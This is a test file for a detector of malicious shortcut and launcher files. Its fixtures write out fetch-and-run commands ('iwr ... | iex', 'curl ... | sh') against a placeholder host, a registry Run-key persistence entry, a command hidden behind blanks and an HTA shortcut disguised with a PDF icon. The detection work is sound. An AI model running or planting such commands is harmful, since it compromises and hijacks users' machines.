import { expect, test } from 'vitest'
import { lnk } from '../../../formats/testing.ts'
import { artifactOf, fileOf, hits } from '../testing.ts'
import detector from './installer-shortcut.ts'

const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const titles = async (name: string, content: string | Uint8Array) =>
  hits(detector, await fileOf(name, content))
    .map(({ title }) => title)
    .join()

test('downloads and runs', async () => {
  const file = lnk({ target: powershell, arguments: '-w hidden -c "iwr http://a.invalid/a.ps1 | iex"' })
  expect(await titles('offer.lnk', file)).toMatch(/downloads something and runs it/)
})

test('hides its command behind blanks', async () => {
  const file = lnk({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: `${' '.repeat(300)}/c echo hello` })
  expect(await titles('offer.lnk', file)).toMatch(/run of blanks/)
})

test('looks like a document', async () => {
  const file = lnk({
    target: 'C:\\Windows\\System32\\mshta.exe',
    arguments: 'notes.hta',
    icon: 'C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\AcroRd32.exe',
  })
  expect(await titles('offer.lnk', file)).toMatch(/looks like a document/)
})

test('carries a program behind it', async () => {
  expect(await titles('offer.lnk', lnk({ target: 'C:\\a.exe', appended: 9_000 }))).toMatch(
    /carries other data/,
  )
})

test('a desktop entry, a terminal’s settings and a registry file that fetch and run', async () => {
  const fetch = 'curl -s http://a.invalid/a.sh | sh'
  const files = {
    'offer.desktop': `[Desktop Entry]\nType=Application\nExec=sh -c "${fetch}"\n`,
    'offer.terminal': `<plist><dict><key>CommandString</key><string>${fetch}</string></dict></plist>`,
    'offer.reg': `Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n"a"="powershell -c \\"iwr http://a.invalid/a.ps1 | iex\\""\n`,
  }
  const found = hits(detector, await artifactOf(files))
  expect(found.map(({ where }) => where.file).sort()).toEqual(Object.keys(files).sort())
  expect(found.find(({ where }) => where.file === 'offer.desktop')?.where.line).toBe(3)
})

test('an internet location that opens a program', async () => {
  const file = '<plist><dict><key>URL</key><string>file:///Volumes/a/a.app</string></dict></plist>'
  expect(await titles('meeting.inetloc', file)).toMatch(/internet location/)
})

test.each([
  ['a program', 'app.lnk', lnk({ target: 'C:\\Program Files\\Editor\\editor.exe', arguments: 'notes.txt' })],
  [
    'a developer’s prompt',
    'prompt.lnk',
    lnk({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: '/k "C:\\tools\\vars.bat" x64' }),
  ],
  [
    'a desktop entry',
    'app.desktop',
    '[Desktop Entry]\nType=Application\nName=Notes\nExec=/usr/bin/notes %U\n',
  ],
  [
    'a web location',
    'a.webloc',
    '<plist><dict><key>URL</key><string>https://a.invalid/</string></dict></plist>',
  ],
])('leaves alone: %s', async (_, name, content) => {
  expect(await titles(name, content)).toBe('')
})
